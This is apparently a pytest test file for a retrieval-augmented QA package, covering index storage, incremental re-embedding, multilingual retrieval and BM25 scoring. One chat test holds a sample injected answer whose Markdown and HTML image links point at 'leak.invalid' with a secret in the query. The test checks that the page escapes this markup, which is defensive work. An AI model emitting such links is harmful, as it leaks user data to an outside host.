"RAG: safe persistence, model check, incremental updates, bad inputs, the QA chain."
import json
from pathlib import Path
import numpy as np
import pytest
from llmops_nb import rag, retrieval as R, vectorstore as V
from llmops_nb.core import ConfigError

DOCS = {
    "battery.md": "# Battery\n\nThe KB-5 module stores 5.1 kWh.\n\n## Care\n\nKeep it between 0 and 40 degrees.\n",
    "guide/charger.md": "# Charger\n\nThe KC-11 charges cars at up to 11 kW.\n\n## Modes\n\nSolar-only mode uses surplus PV.\n",
    "faq.txt": "Support answers within one working day. Returns are accepted within 30 days of delivery.",
    "privacy.html": "<html><head><title>Privacy</title></head><body><h1>Privacy</h1><p>Data is stored in the EU "
                    "for 24 months.</p><h2>Deletion</h2><p>Ask support to delete your account.</p></body></html>",
}
KW = dict(chunk_size=120, chunk_overlap=20)


class Counting(V.Embeddings):
    "The real packaged embedding model, counting the texts it embeds for documents."
    def __init__(self): self.inner, self.n = V.get_embeddings(), 0
    def embed_documents(self, texts): self.n += len(texts); return self.inner.embed_documents(texts)
    def embed_query(self, text): return self.inner.embed_query(text)


def pdf(text: str) -> bytes:
    "A one-page PDF showing `text` (hand-written objects: no PDF writer needed)."
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            None, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    out, offs = bytearray(b"%PDF-1.4\n"), []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        body = (f"<< /Length {len(stream)} >>\nstream\n".encode() + stream + b"\nendstream") if o is None else o.encode()
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    x = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{o:010d} 00000 n \n".encode() for o in offs)
    return bytes(out + f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{x}\n%%EOF\n".encode())


def write(root: Path, files: dict) -> Path:
    for name, text in files.items():
        (root/name).parent.mkdir(parents=True, exist_ok=True)
        (root/name).write_text(text)
    return root


@pytest.fixture
def kb(tmp_path): return write(tmp_path/"kb", DOCS)


def test_round_trip_without_pickle(kb, tmp_path):
    store, stats = V.build_index(kb, tmp_path/"ix", **KW)
    files = sorted(p.name for p in (tmp_path/"ix").iterdir())
    assert files == ["documents.json", "index.faiss", "meta.json"]
    for p in (tmp_path/"ix").iterdir():  # no pickle protocol header anywhere
        assert not p.read_bytes().startswith(b"\x80"), p
    loaded = V.load_index(tmp_path/"ix", embedding_model="minilm-l6-v2")
    for q in ["how big is the battery?", "when is my data deleted?", "charging power"]:
        a = store.similarity_search_with_score(q, k=4)
        b = loaded.similarity_search_with_score(q, k=4)
        assert [d.id for d, _ in a] == [d.id for d, _ in b]
        np.testing.assert_allclose([s for _, s in a], [s for _, s in b], rtol=1e-6)
        assert [d.metadata for d, _ in a] == [d.metadata for d, _ in b]
    meta = json.loads((tmp_path/"ix"/"meta.json").read_text())
    assert (meta["embedding_model"], meta["dims"], meta["chunk_size"], meta["index_type"]) == ("minilm-l6-v2", 384, 120, "flat")
    assert set(meta["files"]) == set(DOCS)


def test_hnsw_round_trip(kb, tmp_path):
    store, _ = V.build_index(kb, tmp_path/"ix", index_type="hnsw", **KW)
    loaded = V.load_index(tmp_path/"ix")
    assert type(loaded.index).__name__ == "IndexHNSWFlat"
    q = "returns policy"
    assert [d.id for d in store.similarity_search(q, k=3)] == [d.id for d in loaded.similarity_search(q, k=3)]


def test_wrong_embedding_model_refused(kb, tmp_path):
    V.build_index(kb, tmp_path/"ix", **KW)
    with pytest.raises(ConfigError, match="was built with embedding model 'minilm-l6-v2', not 'BAAI/bge-small-en-v1.5'"):
        V.load_index(tmp_path/"ix", embedding_model="BAAI/bge-small-en-v1.5")
    with pytest.raises(ConfigError, match="no meta.json"):
        V.load_index(tmp_path)


def test_incremental_embeds_only_changed_files(kb, tmp_path):
    emb = Counting()
    first, s1 = V.build_index(kb, tmp_path/"v1", embeddings=emb, **KW)
    assert emb.n == s1["chunks"] == s1["added"]
    n_faq = sum(d.metadata["source"] == "faq.txt" for d in first.docs)
    n_priv = sum(d.metadata["source"] == "privacy.html" for d in first.docs)
    (kb/"faq.txt").write_text("Support answers within two working days.")      # changed
    (kb/"privacy.html").unlink()                                                # deleted
    (kb/"new.md").write_text("# New\n\nA brand new article about island mode.")  # added
    emb.n = 0
    upd, s2 = V.build_index(kb, tmp_path/"v2", embeddings=emb, previous=tmp_path/"v1", **KW)
    new_chunks = [d for d in upd.docs if d.metadata["source"] in ("faq.txt", "new.md")]
    assert emb.n == len(new_chunks) == s2["added"] == s2["embedded"]
    assert s2["kept"] == s1["chunks"] - n_faq - n_priv
    assert s2["removed"] == n_faq + n_priv
    assert s2["chunks"] == s2["kept"] + s2["added"] and s2["incremental"]
    full, _ = V.build_index(kb, None, **KW)  # same result as a full rebuild
    assert [d.id for d in upd.docs] == [d.id for d in full.docs]
    exact = full.meta["embedding_dtype"] == "float32"  # bf16 rounds a text differently in batches of other lengths
    np.testing.assert_allclose(upd.vectors(), full.vectors(), atol=1e-4 if exact else 2e-3)
    emb.n = 0  # nothing changed: nothing embedded
    _, s3 = V.build_index(kb, None, embeddings=emb, previous=tmp_path/"v2", **KW)
    assert emb.n == 0 and s3["kept"] == s2["chunks"] and s3["removed"] == 0
    emb.n = 0  # other chunking: a full rebuild, with the reason
    _, s4 = V.build_index(kb, None, embeddings=emb, previous=tmp_path/"v2", chunk_size=200, chunk_overlap=20)
    assert emb.n == s4["chunks"] and "chunk_size changed" in s4["full_rebuild_reason"]


def test_bad_inputs(tmp_path):
    (tmp_path/"empty").mkdir()
    with pytest.raises(ConfigError, match="no readable documents"):
        V.build_index(tmp_path/"empty")
    with pytest.raises(ConfigError, match="does not exist"):
        V.build_index(tmp_path/"missing")
    bad = write(tmp_path/"bad", {"blank.md": "\n \n", "broken.pdf": "not a pdf", "ok.txt": "Some text.", "x.docx": "?"})
    with pytest.warns(UserWarning, match=r"skipped 3 files.*blank\.md.*broken\.pdf|skipped 3 files.*broken\.pdf.*blank\.md") as w:
        store, stats = V.build_index(bad)
    assert len(w) == 1 and stats["files"] == 1 and "x.docx" in str(w[0].message)
    assert set(stats["skipped_files"]) == {"blank.md", "broken.pdf", "x.docx"} and stats["skipped_files"]["x.docx"] == "unsupported type"  # which, and why
    assert store.meta["stats"]["skipped_files"] == stats["skipped_files"]                           # in the index's metadata too
    q = tmp_path/"q.jsonl"
    q.write_text('{"question": "fine", "sources": ["a.md"]}\n{"question": "fine too"}\n{"answer": "no question"}\n')
    with pytest.raises(ConfigError, match=r"q\.jsonl:3: expected an object with a non-empty string 'question'"):
        R.load_questions(q)
    q.write_text('{"question": "fine"}\n{"question": oops}\n')
    with pytest.raises(ConfigError, match=r"q\.jsonl:2: not valid JSON"):
        R.load_questions(q)
    with pytest.raises(ConfigError, match="expected one of dense, hybrid, mmr"):
        R.make_retriever(store, "sparse")


def test_qa_chain_tiny_random(kb, tmp_path):
    V.build_index(kb, tmp_path/"ix", **KW)
    qa = rag.qa_chain(tmp_path/"ix", model="tiny-random", k=2, gen={"max_new_tokens": 8})
    res = qa.invoke("How much energy does the KB-5 store?")
    assert set(res) == {"answer", "sources", "cited", "documents", "note"} and res["note"] == ""  # nothing left out to fit the context
    assert isinstance(res["answer"], str) and "Passages:" not in res["answer"]
    assert res["sources"][0] == "battery.md" and len(res["documents"]) == 2
    assert res["sources"] == list(dict.fromkeys(d.metadata["source"] for d in res["documents"]))


def test_retrieval_modes_and_metrics(kb, tmp_path):
    store, _ = V.build_index(kb, None, **KW)
    qs = [{"question": "How long is data stored?", "answer": "24 months.", "sources": ["privacy.html"]},
          {"question": "charging power of the KC-11", "answer": "11 kW.", "sources": ["charger.md"]}]
    r = R.score_retrieval(store, qs, k=3)
    for m in R.MODES:
        assert r[m]["hit_at_k"] == 1.0 and len(r[m]["hit_curve"]) == 3
        assert r[m]["hit_at_1"] <= r[m]["mrr_at_k"] <= r[m]["hit_at_k"]


def test_stage_parameters_declared():
    "The stage contracts give rag_index and rag_eval their settings, inputs and out_dir."
    from llmops_nb.stages import parameters
    assert {"docs", "embedding_model", "chunk_size", "chunk_overlap", "index_type", "previous_index", "out_dir"} <= set(parameters("rag_index"))
    p = parameters("rag_eval")
    assert {"rag_index_dir", "finetune_dir", "model", "questions", "k", "retrieval", "max_new_tokens", "max_questions", "gates"} <= set(p)
    assert p["gates"]["default"] == {} and p["max_questions"]["type"] is int


def test_all_formats(kb, tmp_path):
    (kb/"manual.pdf").write_bytes(pdf("The KG-1 gateway switches to backup power in 20 ms."))
    store, stats = V.build_index(kb, None, **KW)
    by = {}
    for d in store.docs: by.setdefault(d.metadata["source"], []).append(d)
    assert set(by) == {*DOCS, "manual.pdf"} and stats["skipped"] == 0
    assert by["manual.pdf"][0].metadata["page"] == 1 and "KG-1" in by["manual.pdf"][0].page_content
    assert by["privacy.html"][0].metadata["title"] == "Privacy"
    assert {d.metadata["heading"] for d in by["privacy.html"]} >= {"Privacy", "Privacy > Deletion"}
    assert {d.metadata["heading"] for d in by["guide/charger.md"]} >= {"Charger", "Charger > Modes"}
    assert all(d.metadata["position"] == i for ds in by.values() for i, d in enumerate(ds))
    assert store.similarity_search("how fast does the gateway switch to backup?", k=1)[0].metadata["source"] == "manual.pdf"


def test_groundedness_is_not_fooled_by_repetition():
    "Issue 15: one wrong sentence repeated four times used to score high (each copy close to the warranty passage in embedding space)."
    emb = V.get_embeddings()
    ps = ["## Warranty terms\n\n| Product | Term |\n|---|---|\n| KB-5 battery module | 10 years or 6,000 full cycles, whichever comes first |",
          "Battery state of health (SoH) is shown under Battery > Health. Below 70% of nominal capacity within the warranty period, Kestrel repairs it."]
    wrong = "The KB-5 battery module warranty is 2 years. " * 4
    old = lambda a: float(((V.embed_texts(emb, rag.sentences(a), progress=False) @ V.embed_texts(emb, ps, progress=False).T).max(1) >= 0.5).mean())
    assert old(wrong) == 1.0  # the embedding-only score: every copy counted, each similar enough
    assert rag.groundedness(wrong, ps, emb) == 0.0  # the number is in no passage
    right = "The KB-5 battery module warranty is 10 years or 6,000 full cycles."
    assert rag.groundedness(right, ps, emb) == 1.0
    assert rag.groundedness((right + " ") * 4, ps, emb) == 0.25  # a repeat supports nothing new
    assert rag.groundedness(right + " Paris is the capital of France.", ps, emb) == 0.5


def test_chat_shows_the_answer_as_text(tmp_path, browser):
    "An answer that carries Markdown or HTML (an image pointing elsewhere: what a prompt-injected document makes a model repeat) reaches the chat page as text: the reader's browser fetches nothing."
    import socket
    from gradio_client import Client
    from playwright.sync_api import sync_playwright
    from llmops_nb import chat as C
    leak = "http://leak.invalid/x.png?q=secret"
    answer = f"The warranty is 10 years ![]({leak}) [details]({leak}) <img src='{leak}'>"
    bot = lambda q: {"answer": answer, "sources": [], "cited": [], "latency_ms": 1.0, "top_similarity": None, "note": ""}
    with socket.socket() as s: s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]
    app = C.serve(bot, "127.0.0.1", port, db=tmp_path/"fb.db", block=False)
    try:
        shown = Client(f"http://127.0.0.1:{port}/", verbose=False).predict("How long is the warranty?", api_name="/ask")[0]
        assert "![](" not in shown and "](" not in shown and "<img" not in shown, shown  # escaped Markdown and HTML
        with sync_playwright() as pw:
            b = pw.chromium.launch(executable_path=browser, headless=True, args=["--no-sandbox"])
            page, asked = b.new_page(), []
            page.on("request", lambda r: asked.append(r.url))
            page.goto(f"http://127.0.0.1:{port}/")
            page.locator("#question textarea").fill("How long is the warranty?")
            page.locator("#ask").click()
            page.locator("#status").get_by_text("Answered").wait_for(timeout=60_000)
            text = page.locator("#answer").inner_text()
            assert "The warranty is 10 years" in text and "![](" in text, text  # the answer, its markup as characters
            assert page.evaluate("document.querySelectorAll('#answer img').length") == 0  # (a bare URL in text still becomes a link: Gradio's autolinks)
            assert not [u for u in asked if "leak.invalid" in u], asked
            b.close()
    finally: app.close()


ZH = {"battery.md": ("# 电池保修\n\n家用电池的保修期为十年或六千次充电循环，以先到者为准。", "电池的保修期有多长？"),
      "inverter.md": ("# 逆变器维护\n\n逆变器应每年由技术人员检查一次；每月清洁其通风口。", "逆变器多久需要检查一次？"),
      "panels.md": ("# 清洁太阳能板\n\n请用软刷和清水清洁太阳能板；切勿使用高压清洗机。", "应该用什么清洁太阳能板？"),
      "app.md": ("# 手机应用\n\nKestrel应用显示实时发电量，并可通过手机设置充电计划。", "我可以用手机设置充电计划吗？"),
      "billing.md": ("# 账单\n\n发票在每月第一天通过电子邮件发送，可通过直接借记支付。", "发票什么时候发送？"),
      "outage.md": ("# 停电\n\n电网停电时，电池会在20毫秒内切换到备用模式。", "停电时会发生什么？"),
      "install.md": ("# 安装\n\n安装由认证合作伙伴完成，需要一个工作日。", "安装需要多长时间？"),
      "noise.md": ("# 噪音\n\n热泵在三米距离处产生约35分贝的噪音。", "热泵有多吵？")}


def test_chinese_knowledge_base(tmp_path):
    "BM25 over Chinese text: a CJK run was one token that no question repeats, so every chunk scored 0 and hybrid was dense; now character pairs."
    root = tmp_path/"kb-zh"; root.mkdir()
    for f, (text, _) in ZH.items(): (root/f).write_text(text, encoding="utf-8")
    store, _ = V.build_index(root, None)
    n, sparse = R.HybridRetriever(store=store, k=4)._sparse("电池的保修期有多长？")
    assert sparse and sparse[0].metadata["source"] == "battery.md"
    r = R.score_retrieval(store, [{"question": q, "answer": None, "sources": [f]} for f, (_, q) in ZH.items()], k=4, modes=("dense", "hybrid"))
    assert r["hybrid"]["hit_at_1"] >= r["dense"]["hit_at_1"] and r["hybrid"]["mrr_at_k"] >= r["dense"]["mrr_at_k"]
    assert r["hybrid"]["hit_at_1"] > 0.75, r  # 0.5 (as dense) before


def test_nfd_file_names_match_nfc_sources(tmp_path):
    "A macOS zip names `Gebühren.md` with u + combining diaeresis; the questions file has one ü: the same name, for hit@k and the pre-run check."
    import unicodedata
    from llmops_nb.checks import check_sources
    root = tmp_path/"kb-de"; root.mkdir()
    (root/unicodedata.normalize("NFD", "Gebühren.md")).write_text("# Gebühren\n\nDie Grundgebühr beträgt 5 Euro im Monat.", encoding="utf-8")
    (root/"Akku.md").write_text("# Akku\n\nDer Akku hat zehn Jahre Garantie.", encoding="utf-8")
    store, _ = V.build_index(root, None)
    q = {"question": "Wie hoch ist die Grundgebühr?", "answer": None, "sources": ["Gebühren.md"]}
    assert R.score_retrieval(store, [q], k=2, modes=("dense",))["dense"]["hit_at_1"] == 1.0
    qf = tmp_path/"q.jsonl"; qf.write_text(json.dumps(q, ensure_ascii=False) + "\n", encoding="utf-8")
    assert check_sources(qf, root, "rag_eval") == []


def test_pages_in_other_encodings(tmp_path):
    "An HTML page is read in the encoding it declares (it was read as UTF-8 with U+FFFD for every other byte); text no encoding explains is skipped and said."
    root = tmp_path/"kb-enc"; root.mkdir()
    (root/"cp1252.html").write_bytes('<html><head><meta charset="windows-1252"><title>Preise</title></head><body><h1>Gebühren</h1>'
                                     '<p>Die Grundgebühr beträgt 5 € pro Monat.</p></body></html>'.encode("cp1252"))
    (root/"sjis.html").write_bytes('<html><head><meta charset="Shift_JIS"><title>保証</title></head><body><p>バッテリーの保証期間は十年です。</p></body></html>'.encode("shift_jis"))
    (root/"notepad.txt").write_text("Der Akku hat zehn Jahre Garantie.", encoding="utf-16")
    (root/"garbled.md").write_text("# ?\n\n" + "\ufffd" * 40 + " 5 \ufffd\n", encoding="utf-8")  # what a lossy conversion left behind
    with pytest.warns(UserWarning, match="garbled"): store, stats = V.build_index(root, None)
    text = {d.metadata["source"]: d.page_content for d in store.docs}
    assert "Die Grundgebühr beträgt 5 € pro Monat." in text["cp1252.html"] and "バッテリーの保証期間は十年です。" in text["sjis.html"]
    assert text["notepad.txt"] == "Der Akku hat zehn Jahre Garantie."
    assert not any("\ufffd" in t for t in text.values()) and stats["skipped_files"] == {"garbled.md": "garbled text (mostly U+FFFD: its encoding could not be told)"}


def test_chunks_longer_than_the_embedding_window(tmp_path):
    "800 characters of Chinese are ~800 word pieces, MiniLM reads 256: the chunks it embeds only the start of are counted, with the fix; CJK chunks end at a full stop."
    from llmops_nb.documents import chunk_file, over_window
    (tmp_path/"zh.md").write_text("# 保修条款\n\n" + "".join(f"第{i}条：本产品的电池保修期为两年，逆变器保修期为五年，安装服务由授权经销商提供。" for i in range(40)), encoding="utf-8")
    docs = chunk_file(tmp_path/"zh.md", tmp_path, 800, 100)
    assert all(d.page_content.endswith("。") for d in docs[1:])  # cut mid-word before
    emb = V.get_embeddings()
    with pytest.warns(UserWarning, match="lower rag_index.chunk_size"): assert over_window(docs, emb) >= 2  # the full 800-character ones
    (tmp_path/"en.md").write_text("# Warranty\n\n" + " ".join(f"Clause {i}: the battery warranty lasts two years." for i in range(40)))
    assert over_window(chunk_file(tmp_path/"en.md", tmp_path, 800, 100), emb) == 0


def test_cjk_answers_sentences_numbers_citations():
    "A Chinese answer is several sentences (。 needs no space after it), full-width ３５ is 35, and 【1】 or ［1］ cite passage 1."
    from langchain_core.documents import Document
    assert rag.sentences("电池的保修期为十年。月亮是奶酪做的。") == ["电池的保修期为十年。", "月亮是奶酪做的。"]
    assert rag.quantities("热泵噪音约为３５分贝") == {"35"}
    ds = [Document("a", metadata={"source": "a.md"}), Document("b", metadata={"source": "b.md"})]
    assert rag._package({"answer": "是的【2】，而且［１］。", "documents": ds})["cited"] == ["a.md", "b.md"]


def okapi(chunks, query, k1=1.5, b=0.75, eps=0.25):
    "rank_bm25.BM25Okapi's scores, written out: Okapi's IDF, a quarter of the mean IDF for a token in more than half the chunks."
    from collections import Counter
    n, tf = len(chunks), [Counter(c) for c in chunks]
    df = Counter(t for c in tf for t in c)
    idf = {t: np.log(n - f + 0.5) - np.log(f + 0.5) for t, f in df.items()}
    floor = eps * np.mean(list(idf.values()))
    idf = {t: floor if v < 0 else v for t, v in idf.items()}
    dl, avg = np.array([len(c) for c in chunks]), np.mean([len(c) for c in chunks])
    return sum(idf.get(q, 0) * np.array([c[q] for c in tf]) * (k1 + 1) / (np.array([c[q] for c in tf]) + k1 * (1 - b + b * dl / avg)) for q in query)


BM25_CHUNKS = [R._tokens(t) for t in [
    "The battery stores 5.1 kWh and the warranty lasts ten years.", "The charger gives 11 kW to the car.",
    "The inverter converts DC to AC; the inverter is silent.", "Returns are accepted within 30 days.",
    "The app shows the battery level and the solar power.", "Support answers within one working day.",
    "The warranty of the panel is 25 years.", "Delete your account: ask support."]]


def test_bm25_scores_are_okapi():
    "bm25s (sparse matrices) gives the scores rank_bm25's Okapi gave, `the` (in more than half the chunks) included, and the same top n."
    index = R._bm25(BM25_CHUNKS)
    for q in ["the battery warranty", "the the", "inverter the inverter", "solar 25 years support", "nothing matches", ""]:
        s = R._scores(index, R._tokens(q), len(BM25_CHUNKS))
        assert np.allclose(s, okapi(BM25_CHUNKS, R._tokens(q)), rtol=1e-12, atol=1e-12), q
        for n in (1, 3, 8):
            assert list(R._top(s, n)) == [i for i in np.argsort(-s, kind="stable")[:n] if s[i] > 0], (q, n)
    assert R._bm25([]) is None and R._bm25([[], []]) is None  # nothing to index


def test_bm25_ranking_equals_rank_bm25(kb):
    "rank_bm25 (a dev requirement: the reference, no longer what runs): the hybrid retriever's BM25 hits are those of its BM25Okapi, in its order."
    import rank_bm25
    from llmops_nb.documents import embed_text
    old = rank_bm25.BM25Okapi(BM25_CHUNKS)
    for q in ["the battery warranty", "solar 25 years support", "the inverter"]:
        a, b = R._scores(R._bm25(BM25_CHUNKS), R._tokens(q), len(BM25_CHUNKS)), old.get_scores(R._tokens(q))
        assert np.allclose(a, b, rtol=1e-12) and list(R._top(a, 8)) == [i for i in np.argsort(-b, kind="stable") if b[i] > 0]
    store, _ = V.build_index(kb, None, **KW)
    docs, _ = R.corpus(store)
    old = rank_bm25.BM25Okapi([R._tokens(embed_text(d)) for d in docs])
    for q in ["How long is data stored?", "charging power of the KC-11", "the battery module", "returns within 30 days"]:
        s = old.get_scores(R._tokens(q))
        want = [docs[i].id for i in np.argsort(-s, kind="stable")[:5] if s[i] > 0]
        assert [d.id for d in R.HybridRetriever(store=store, fetch_k=5)._sparse(q)[1]] == want, q
